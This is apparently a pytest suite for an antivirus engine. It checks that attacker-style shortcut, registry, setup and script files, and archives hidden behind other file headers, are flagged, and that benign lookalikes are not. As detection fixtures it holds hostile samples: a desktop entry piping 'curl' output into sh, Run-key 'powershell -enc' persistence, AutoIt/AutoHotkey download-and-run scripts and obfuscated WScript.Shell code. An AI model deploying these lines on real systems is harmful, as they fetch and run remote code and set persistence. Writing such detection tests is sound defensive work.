"""What attackers have lately hidden files in, or sent instead of files; and the harmless of the same kind."""

import base64
import io
import math
import struct
import tarfile
import zlib

import av_samples
import pytest

from gatepost.antivirus.builtin import BuiltinEngine, packaged_sources
from gatepost.antivirus.compiling import compile_knowledge
from gatepost.antivirus.page_archives import find_page_archive
from gatepost.antivirus.stage import inspect
from gatepost.model.finding import ObjectStatus, ScanOptions

IMAGE = compile_knowledge(packaged_sources())
ENGINE = BuiltinEngine(IMAGE)
PROGRAM = b"MZ".ljust(60, b"\0") + struct.pack("<I", 64) + b"PE\0\0\x64\x86".ljust(300, b"\0")


def verdict(data: bytes, name: str, engine: BuiltinEngine = ENGINE) -> tuple[ObjectStatus, str]:
    """Return status and threat of an attachment."""
    analysis = inspect(av_samples.attached(data, name=name), ScanOptions(), [engine], math.inf)
    return analysis.objects[2].status, analysis.objects[2].threat


def library(url: str) -> bytes:
    head = '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">'
    return f"{head}<searchConnectorDescription><simpleLocation><url>{url}</url></simpleLocation></libraryDescription>".encode()


def query(path: str) -> bytes:
    return f'<?xml version="1.0"?><persistedQuery version="1.0"><scope><include path="{path}"/></scope>'.encode()


def desktop(*lines: str) -> bytes:
    return "\r\n".join(("full address:s:host.example.net", *lines, "")).encode("utf-16")


def theme(wallpaper: str) -> bytes:
    return f"[Theme]\r\nDisplayName=x\r\n[Control Panel\\Desktop]\r\nWallpaper={wallpaper}\r\n".encode()


def shortcut(icon: str) -> bytes:
    return f"[InternetShortcut]\r\nURL=https://example.net/news\r\nIconFile={icon}\r\n".encode()


def console(text: str) -> bytes:
    return f'<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"><String ID="1">{text}</String>'.encode()


def entry(command: str) -> bytes:
    return f"[Desktop Entry]\nType=Application\nExec={command}\n".encode()


def registry(key: str, value: str, charset: str = "ascii") -> bytes:
    text = f'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\{key}]\r\n"a"="{value}"'
    return text.encode(charset)


def setup(section: str) -> bytes:
    text = f'[version]\r\nsignature="$CHICAGO$"\r\n[DefaultInstall]\r\nRunPreSetupCommands=x\r\n{section}\r\n'
    return text.encode()


AUTOMATION = "Heuristic.Script.Automation"
SUSPICIOUS = [
    ("a.library-ms", library("\\\\192.0.2.1@80\\DavWWWRoot"), "Heuristic.Shortcut.Library"),
    ("a.searchConnector-ms", library("https://example.net/dav"), "Heuristic.Shortcut.Library"),
    ("a.search-ms", query("\\\\files.example.net\\share"), "Heuristic.Shortcut.Library"),
    (
        "a.SettingContent-ms",
        b"<PCSettings><SearchableContent><DeepLink>%windir%\\system32\\cmd.exe /c x</DeepLink>",
        "Heuristic.Shortcut.Settings",
    ),
    ("a.rdp", desktop("drivestoredirect:s:*"), "Heuristic.Shortcut.RemoteDesktop"),
    ("a.rdp", desktop("alternate shell:s:cmd"), "Heuristic.Shortcut.RemoteDesktop"),
    ("a.theme", theme("\\\\192.0.2.1\\share\\x.jpg"), "Heuristic.Shortcut.Theme"),
    ("a.url", shortcut("\\\\192.0.2.1\\s\\i.ico"), "Heuristic.Shortcut.Icon"),
    ("a.msc", console("res://apds.dll/redirect.html?target=javascript:eval(1)"), "Heuristic.Shortcut.Console"),
    (
        "a.application",
        b'<assembly><deploymentProvider codebase="http://example.net/x.application"/>',
        "Heuristic.Shortcut.Installer",
    ),
    ("a.appinstaller", b'<AppInstaller Uri="https://example.net/x" Version="1.0">', "Heuristic.Shortcut.Installer"),
    ("a.jnlp", b'<jnlp spec="1.0+" codebase="https://example.net" href="x.jnlp">', "Heuristic.Shortcut.Installer"),
    (
        "a.appref-ms",
        "https://example.net/x.application#x, Culture=neutral".encode("utf-16"),
        "Heuristic.Shortcut.Installer",
    ),
    ("a.desktop", entry('sh -c "curl https://example.net | sh"'), "Heuristic.Shortcut.Desktop"),
    ("a.xll", PROGRAM, "Heuristic.Carrier.AddIn"),
    ("a.dat", PROGRAM + b"xlAutoOpen", "Heuristic.Carrier.AddIn"),
    (
        "a.js",
        b'var a=["WScr","ipt.Sh","ell"];var o=new ActiveXObject(a.join(""));o["R"+"un"]("cm"+"d");',
        "Heuristic.Script.Obfuscated",
    ),
    ("a.reg", registry("CurrentVersion\\Run", "powershell -enc AAAA"), "Heuristic.Shortcut.Registry"),
    ("a.reg", registry("CurrentVersion\\Run", "rundll32 a.dll,x", "utf-16"), "Heuristic.Shortcut.Registry"),
    ("a.inf", setup("[x]\r\npowershell -File a.ps1"), "Heuristic.Shortcut.Setup"),
    ("a.au3", b'InetGet("http://example.net/a", @TempDir & "\\a.exe")\r\nRun(@TempDir & "\\a.exe")', AUTOMATION),
    ("a.ahk", b"UrlDownloadToFile, http://example.net/a, %A_Temp%\\a.exe\r\nRun, %A_Temp%\\a.exe", AUTOMATION),
]
HARMLESS = [
    ("a.library-ms", library("knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}")),
    ("a.search-ms", query("\\\\server\\share")),
    ("a.rdp", desktop("drivestoredirect:s:", "redirectclipboard:i:1")),
    ("a.theme", theme("%SystemRoot%\\web\\wallpaper\\img0.jpg")),
    ("a.url", shortcut("C:\\Windows\\i.ico")),
    ("a.url", shortcut("\\\\server\\icons\\i.ico")),
    ("a.msc", console("Certificates")),
    ("a.desktop", entry("/usr/bin/viewer %f")),
    ("a.exe", PROGRAM),
    ("a.reg", registry("Explorer\\Advanced", "1")),
    ("a.reg", registry("CurrentVersion\\Run", "C:\\\\Program Files\\\\Backup\\\\tray.exe")),
    ("a.inf", setup("[x]\r\nprinter.dll")),
    ("a.au3", b'MsgBox(0, "Example", "Run (this) again")'),
    ("a.ahk", b"^j::Send, My first script"),
]


@pytest.mark.parametrize(("name", "data", "threat"), SUSPICIOUS, ids=[f"{n}-{t}" for n, _, t in SUSPICIOUS])
def test_small_files_that_reach_out_at_a_click(name: str, data: bytes, threat: str) -> None:
    assert verdict(data, name) == (ObjectStatus.SUSPICIOUS, threat)
    assert verdict(av_samples.zip_of((name, data)), "a.zip") == (ObjectStatus.SUSPICIOUS, threat)


@pytest.mark.parametrize(("name", "data"), HARMLESS)
def test_such_files_that_stay_at_home(name: str, data: bytes) -> None:
    assert verdict(data, name) == (ObjectStatus.CLEAN, "")


def test_a_picture_of_a_document_on_another_hosts_share() -> None:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
    for target, status in (
        ("file://192.0.2.1/x.png", ObjectStatus.SUSPICIOUS),
        ("file:///\\\\server\\logo.png", ObjectStatus.CLEAN),
    ):
        link = f'<Relationships><Relationship Id="r1" Type="{kind}" Target="{target}" TargetMode="External"/></Relationships>'
        parts = [("[Content_Types].xml", b"<Types/>"), ("word/_rels/document.xml.rels", link.encode())]
        assert verdict(av_samples.zip_of(*parts), "a.docx")[0] is status


def tar_of(*members: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def old(archive: bytes) -> bytes:
    """Return a tar archive of one member as it was written before POSIX: without a mark."""
    header = bytearray(archive[:257].ljust(512, b"\0"))
    header[148:156] = b" " * 8
    header[148:155] = b"%06o\0" % sum(header)
    return bytes(header) + archive[512:]


def test_a_tar_archive_behind_the_end_of_another() -> None:
    first, second = tar_of(("a.txt", b"fine")), tar_of(("a.txt", av_samples.eicar()))
    for data in (first + second, first + bytes(5 * 512) + second, first + first + second, first + old(second)):
        assert verdict(data, "a.tar")[0] is ObjectStatus.INFECTED
    assert verdict(first + bytes(4096), "a.tar")[0] is ObjectStatus.CLEAN
    assert verdict(first + b"what tapes leave" * 100, "a.tar")[0] is ObjectStatus.CLEAN


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"MSWIM\0\0\0" + bytes(400), "a Windows image (WIM, ESD), which is not read"),
        (b"QFI\xfb\0\0\0\3" + bytes(90), "(QCOW2) that is damaged"),
        (b"QED\0" + bytes(400), "(QED), which is not read"),
        (b"KDMV\1\0\0\0" + bytes(400), "(VMDK) that is damaged"),
        (b"vhdxfile" + bytes(400), "(VHDX) that is damaged, was not closed"),
        (bytes(900) + b"koly".ljust(512, b"\0"), "a disk image of macOS (DMG), which is not read"),
    ],
)
def test_small_images_of_kinds_nobody_reads_are_not_clean_and_named(data: bytes, words: str) -> None:
    analysis = inspect(av_samples.attached(data, name="a.img"), ScanOptions(), [ENGINE], math.inf)
    assert analysis.objects[2].status is ObjectStatus.ERROR
    assert words in str(analysis.objects[2])


def test_a_solid_rar_archive_is_named_and_not_clean() -> None:
    def block(kind: int, flags: int, rest: bytes) -> bytes:
        head = struct.pack("<BHH", kind, flags, 7 + len(rest)) + rest
        return struct.pack("<H", zlib.crc32(head) & 0xFFFF) + head

    file = struct.pack("<IIBIIBBHI", 4, 4, 3, zlib.crc32(b"data"), 0, 29, 0x30, 5, 0o644) + b"a.txt"
    archive = b"Rar!\x1a\x07\0" + block(0x73, 0x0008, bytes(6)) + block(0x74, 0x8010, file) + b"data"
    analysis = inspect(av_samples.attached(archive, name="a.rar"), ScanOptions(), [ENGINE], math.inf)
    assert analysis.objects[2].status is ObjectStatus.ERROR
    assert "a solid RAR 4 archive, which is not read" in str(analysis.objects[2])


def test_one_of_several_cabinets_is_named_and_not_clean() -> None:
    data, name, following = b"a" * 40, b"a.txt\0", b"next.cab\0disk2\0"
    files = 36 + len(following) + 8
    at = files + 16 + len(name)
    head = struct.pack("<IIIIIBBHHHHH", 0, at + 8 + len(data), 0, files, 0, 3, 1, 1, 1, 2, 1, 0)
    file = struct.pack("<IIHHHH", len(data), 0, 0xFFFE, 0, 0, 0x20)  # goes on in the next one
    cabinet = b"MSCF" + head + following + struct.pack("<IHH", at, 1, 0) + file + name
    cabinet += struct.pack("<IHH", 0, len(data), len(data)) + data
    analysis = inspect(av_samples.attached(cabinet, name="a.cab"), ScanOptions(), [ENGINE], math.inf)
    assert analysis.objects[2].status is ObjectStatus.ERROR
    assert "it is one of several volumes, and the others are not here" in str(analysis.objects[2])


def test_name_of_a_threat_does_not_depend_on_what_was_scanned_before() -> None:
    """Two filters, each with its own past, must call one mail the same."""
    engine = BuiltinEngine(IMAGE)
    both = entry('sh -c "curl https://example.net | sh"')
    first = verdict(both, "a.desktop", engine)
    for name, data, _ in SUSPICIOUS:
        verdict(data, name, engine)
    assert verdict(both, "a.desktop", engine) == first == (ObjectStatus.SUSPICIOUS, "Heuristic.Shortcut.Desktop")


ARCHIVE = (
    b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n'
    b'<html><link rel=Edit-Time-Data href="a.mso">\r\n--x\r\nContent-Location: a.mso\r\nContent-Type: application/x-mso\r\n'
    b"Content-Transfer-Encoding: base64\r\n\r\n"
    + base64.encodebytes(b"ActiveMime\0\0" + bytes(38) + zlib.compress(av_samples.BASE))
    + b"\r\n--x--\r\n"
)
PICTURE = b"\x89PNG\r\n\x1a\n" + bytes(60) + b"\n"
PDF = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer<</Root 1 0 R>>\n"


@pytest.mark.parametrize(
    "front",
    [
        PDF,
        PDF + b"%%EOF\n",
        PDF + b"2 0 obj\n",
        PDF + b"Subject: x\r\nFrom: y\r\n",
        PICTURE,
        PDF.replace(b"\n", b": x\n", 1),
        b"\x01\x02" * 30 + b"\n",
    ],
    ids=["document", "behind its end", "in an object", "with more fields", "picture", "like a field", "anything"],
)
@pytest.mark.parametrize("archive", [ARCHIVE, ARCHIVE.replace(b"MIME-Version", b"mIME-vERSION")], ids=["usual", "case"])
def test_a_document_saved_as_mail_behind_the_mark_of_another_file(front: bytes, archive: bytes) -> None:
    """Word opens it by its name and runs its macros."""
    assert verdict(front + archive, "a.doc") == (ObjectStatus.INFECTED, "EICAR-Test-File")


def test_an_archive_behind_all_of_it_hides_it_no_more() -> None:
    data = PICTURE + ARCHIVE + av_samples.zip_of(("a.txt", b"x"))
    assert verdict(data, "a.doc") == (ObjectStatus.INFECTED, "EICAR-Test-File")


def test_a_page_archive_is_found_where_its_fields_begin() -> None:
    fields = b"Subject: x\r\n folded\r\nContent-Type: text/html\r\nMIME-Version: 1.0\r\n\r\n"
    assert find_page_archive(fields) == 0
    assert find_page_archive(b"%PDF\n\n" + fields) == 6
    assert find_page_archive(b"%PDF\n a MIME-Version: 1.0\nContent-Type: a/b") == -1
    assert find_page_archive(b"MIME-Version: 1.0\r\n" * 200) == -1
    for decoy in (b"a MIME-Version", b"MIME-Version\n\n" + b"x" * 5000 + b"\n"):
        front = b"%PDF\n" + decoy * 150 + b"\n"
        assert find_page_archive(front + fields) == len(front), "decoys in front hide none"
    assert find_page_archive(b"%PDF\nA: b\n" + b"MIME-Version: 1.0\n" * 150 + fields) == 5
    assert find_page_archive(b"") == -1
